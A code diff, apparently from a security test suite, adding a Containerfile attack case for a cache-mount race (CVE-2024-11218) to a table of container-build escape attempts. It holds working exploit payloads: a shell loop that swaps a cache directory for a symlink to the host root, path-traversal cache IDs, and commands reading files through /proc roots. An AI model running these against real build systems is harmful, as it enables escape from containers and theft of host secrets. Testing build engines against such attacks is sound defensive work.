@@ -29,6 +29,10 @@ function build(
 
 const SHOW = "cat /mSECRET; cat /mBAIT/home/identity.enc";
 
+/** Puts a folder and a link to the root in turn at one place of a cache. The link comes last, for an engine that runs stages one by one. */
+const SWAP =
+  "i=0; while [ $i -lt 12 ]; do mkdir /c/l; sleep 0.05; rmdir /c/l; ln -s / /c/l; sleep 0.2; i=$((i + 1)); [ $i -eq 12 ] || rm /c/l; done";
+
 /** The table. */
 export const CONTAINERFILES: readonly ContainerfileAttack[] = [
   build(
@@ -43,6 +47,12 @@ export const CONTAINERFILES: readonly ContainerfileAttack[] = [
   build(
     "keeps its cache above the cache (CVE-2024-9675)",
     `RUN --mount=type=cache,id=../../../../../../../../..,target=/m ${SHOW}\n`,
+  ),
+  build(
+    "mounts what another stage, at the same time, makes a link to the root (CVE-2024-11218)",
+    `FROM base AS swap\nRUN --mount=type=cache,id=race,target=/c ${SWAP}\nFROM base\n` +
+      `RUN --mount=type=cache,id=race/l,target=/m ${SHOW}; sleep 1\n`.repeat(4) +
+      `COPY --from=swap /bin/busybox /x\nRUN --mount=type=cache,id=race/l,target=/m ${SHOW}; sleep 1\n`,
   ),
   step("reads files through the roots of other processes", "cat /proc/[0-9]*/rootSECRET"),
   step("reads files through the folders of other processes", "cat /proc/[0-9]*/cwd/SECRET"),
